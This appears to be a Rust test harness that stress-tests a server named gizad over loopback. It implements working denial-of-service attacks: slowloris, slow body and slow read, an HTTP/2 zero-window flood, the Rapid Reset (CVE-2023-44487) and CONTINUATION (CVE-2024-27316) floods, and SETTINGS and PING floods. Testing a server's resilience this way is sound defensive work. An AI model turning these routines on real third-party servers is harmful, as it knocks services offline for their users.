//! What somebody does who wants gizad to serve nobody else: each a way of his own, bounded in number, rate and time, and to
//! loopback only.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::sleep;

/// The ways.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    /// Connections that say nothing.
    Silence,
    /// Heads that never end (slowloris).
    SlowHead,
    /// Bodies that never end.
    SlowBody,
    /// Answers that are asked for and not taken.
    SlowRead,
    /// The same in HTTP/2, with a window of nothing.
    NoWindow,
    /// Calls that are given up as soon as they are made (CVE-2023-44487).
    RapidReset,
    /// A head in more and more pieces (CVE-2024-27316).
    Continuation,
    /// A body of nothing, again and again.
    EmptyData,
    /// Settings to acknowledge.
    Settings,
    /// Pings to answer.
    Ping,
    /// Connections that come and go.
    Churn,
}

impl Attack {
    pub(crate) const ALL: [Self; 11] = [
        Self::Silence,
        Self::SlowHead,
        Self::SlowBody,
        Self::SlowRead,
        Self::NoWindow,
        Self::RapidReset,
        Self::Continuation,
        Self::EmptyData,
        Self::Settings,
        Self::Ping,
        Self::Churn,
    ];

    /// Goes on from so many connections at once until the time is over, coming back whenever one is closed. Returns how often one
    /// was.
    pub(crate) async fn run(self, at: SocketAddr, connections: usize, until: Instant) -> usize {
        let mut attackers = JoinSet::new();
        for number in 0..connections {
            // Each has a pace of its own, or they would all come back at the same moment.
            let pace = Duration::from_millis(150 + number as u64 * 37 % 100);
            attackers.spawn(async move {
                let mut closed = 0;
                while Instant::now() < until {
                    if let Ok(stream) = connect(at, self == Self::SlowRead).await {
                        let left = until.saturating_duration_since(Instant::now());
                        if tokio::time::timeout(left, self.once(stream, pace)).await.is_ok() {
                            closed += 1;
                        }
                    }
                    // Nobody attacks so fast that his own machine is the victim; and whoever says nothing has to go at once where
                    // there is no room, and would only show how quickly he comes back, which is for churn to show.
                    sleep(if self == Self::Silence { pace } else { Duration::from_millis(50) }).await;
                }
                closed
            });
        }
        attackers.join_all().await.into_iter().sum()
    }

    /// Over one connection, until it is closed.
    async fn once(self, mut stream: TcpStream, pace: Duration) {
        let _closed = match self {
            Self::Silence => drained(&mut stream).await,
            Self::SlowHead => {
                drip(
                    &mut stream,
                    b"GET /catalog/vps-plans HTTP/1.1\r\nhost: localhost\r\n",
                    b"x-a: b\r\n",
                    pace,
                )
                .await
            }
            Self::SlowBody => {
                let head = b"POST /wallet/deposits HTTP/1.1\r\nhost: localhost\r\n\
                    content-type: application/json\r\ncontent-length: 60000\r\n\r\n{";
                drip(&mut stream, head, b" ", pace).await
            }
            Self::SlowRead => {
                let asked = b"GET /catalog/vps-plans HTTP/1.1\r\nhost: localhost\r\n\r\n".repeat(300);
                let (mut reader, mut writer) = stream.split();
                let reading = async {
                    let mut byte = [0];
                    while reader.read(&mut byte).await? > 0 {
                        sleep(Duration::from_millis(100)).await;
                    }
                    std::io::Result::Ok(())
                };
                let writing = async {
                    writer.write_all(&asked).await?;
                    std::future::pending::<std::io::Result<()>>().await
                };
                tokio::select! { read = reading => read, written = writing => written }
            }
            Self::NoWindow => {
                let mut said = greeting(&[0, 4, 0, 0, 0, 0]);
                for call in 0..200 {
                    said.extend(frame(HEADERS, END_HEADERS | END_STREAM, call * 2 + 1, &GET));
                }
                flood(&mut stream, &said, &[]).await
            }
            Self::RapidReset => {
                let mut said = greeting(&[]);
                let mut call = 1;
                loop {
                    for _ in 0..100 {
                        said.extend(frame(HEADERS, END_HEADERS | END_STREAM, call, &GET));
                        said.extend(frame(RST_STREAM, 0, call, &[0, 0, 0, 8]));
                        call += 2;
                    }
                    if let Err(error) = push(&mut stream, &said).await {
                        break Err(error);
                    }
                    said.clear();
                }
            }
            Self::Continuation => {
                let mut said = greeting(&[]);
                said.extend(frame(HEADERS, 0, 1, &GET));
                let field = [&[0, 3][..], b"x-a", &[100], &[b'b'; 100]].concat();
                flood(&mut stream, &said, &frame(CONTINUATION, 0, 1, &field.repeat(8)).repeat(10)).await
            }
            Self::EmptyData => {
                let mut said = greeting(&[]);
                said.extend(frame(HEADERS, END_HEADERS, 1, &POST));
                flood(&mut stream, &said, &frame(DATA, 0, 1, &[]).repeat(100)).await
            }
            Self::Settings => {
                flood(&mut stream, &greeting(&[]), &frame(SETTINGS, 0, 0, &[]).repeat(100)).await
            }
            Self::Ping => flood(&mut stream, &greeting(&[]), &frame(PING, 0, 0, &[7; 8]).repeat(100)).await,
            Self::Churn => Ok(()),
        };
    }
}

async fn connect(at: SocketAddr, is_narrow: bool) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    if is_narrow {
        socket.set_recv_buffer_size(4096)?;
    }
    socket.connect(at).await
}

/// Says something, and then a little again and again.
async fn drip(stream: &mut TcpStream, first: &[u8], again: &[u8], pace: Duration) -> std::io::Result<()> {
    stream.write_all(first).await?;
    loop {
        sleep(pace).await;
        stream.write_all(again).await?;
        // Nothing to read, unless it was ended.
        let mut some = [0; 512];
        match stream.try_read(&mut some) {
            Ok(0) => return Ok(()),
            Err(error) if error.kind() != std::io::ErrorKind::WouldBlock => return Err(error),
            _ => {}
        }
    }
}

/// Says something, and then something else as often as it is taken.
async fn flood(stream: &mut TcpStream, first: &[u8], again: &[u8]) -> std::io::Result<()> {
    stream.write_all(first).await?;
    if again.is_empty() {
        return drained(stream).await;
    }
    loop {
        push(stream, again).await?;
    }
}

/// Says something, takes what there is, and rests: some ten thousand frames a second.
async fn push(stream: &mut TcpStream, said: &[u8]) -> std::io::Result<()> {
    let (mut reader, mut writer) = stream.split();
    let mut some = [0; 16 * 1024];
    let writing = async {
        writer.write_all(said).await?;
        sleep(Duration::from_millis(10)).await;
        std::io::Result::Ok(())
    };
    let reading = async {
        while reader.read(&mut some).await? > 0 {}
        Err::<(), _>(std::io::ErrorKind::ConnectionAborted.into())
    };
    tokio::select! { written = writing => written, ended = reading => ended }
}

/// Takes what there is until there is no more.
async fn drained(stream: &mut TcpStream) -> std::io::Result<()> {
    let mut some = [0; 16 * 1024];
    while stream.read(&mut some).await? > 0 {}
    Ok(())
}

/// Frames of HTTP/2 (RFC 9113, section 6), and their flags.
const DATA: u8 = 0;
pub(crate) const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
pub(crate) const END_STREAM: u8 = 1;
pub(crate) const END_HEADERS: u8 = 4;

/// Heads (RFC 7541): GET /catalog/vps-plans, and POST /wallet/deposits of JSON, of localhost.
pub(crate) const GET: [u8; 33] = *b"\x82\x86\x04\x12/catalog/vps-plans\x01\x09localhost";
pub(crate) const POST: [u8; 50] =
    *b"\x83\x86\x04\x10/wallet/deposits\x01\x09localhost\x0f\x10\x10application/json";

/// One frame.
pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let head = [&length[1..], &[kind, flags], &stream.to_be_bytes()].concat();
    [head.as_slice(), payload].concat()
}

/// What a connection begins with, and its settings.
pub(crate) fn greeting(settings: &[u8]) -> Vec<u8> {
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".as_slice(), &frame(SETTINGS, 0, 0, settings)].concat()
}
